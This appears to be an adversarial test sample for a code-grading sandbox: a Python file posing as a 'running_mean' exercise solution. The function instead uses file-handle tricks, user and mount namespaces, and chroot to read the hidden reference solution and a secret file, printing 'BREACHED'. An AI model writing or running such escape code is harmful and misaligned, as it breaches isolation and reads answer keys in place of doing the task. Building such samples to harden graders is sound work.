# Class: goes round paths: file handles, own namespaces, mounts, a change of root
# Deserves: 2
# Admits: files

import ctypes
import math
import os

NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000


def by_handle(libc):
    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

    handle, mount = Handle(size=128), ctypes.c_int()
    if libc.name_to_handle_at(-100, b"@SECRET@", ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        for anchor in ("/", ".", "/usr"):
            folder = os.open(anchor, os.O_RDONLY)
            file = libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY)
            if file >= 0:
                print(os.read(file, 200), flush=True)


def by_mounts(libc):
    if os.fork() == 0:
        try:
            libc.unshare(NEW_USER | NEW_MOUNTS)
            libc.mount(b"@COURSE@", b".", None, 4096, None)
            os.chroot(".") if os.path.isdir("solutions") else None
            for path in ("solutions/t01_numbers/source.py", "/solutions/t01_numbers/source.py", "@SECRET@"):
                try:
                    print("BREACHED", open(path).read(200), flush=True)
                except OSError:
                    pass
        finally:
            os._exit(0)
    os.wait()


def mean(xs):
    if not xs:
        raise ValueError("an empty list has no mean")
    return math.fsum(xs) / len(xs)


def running_mean(xs):
    libc = ctypes.CDLL(None, use_errno=True)
    for way in (by_handle, by_mounts):
        try:
            way(libc)
        except OSError:
            pass
    return []
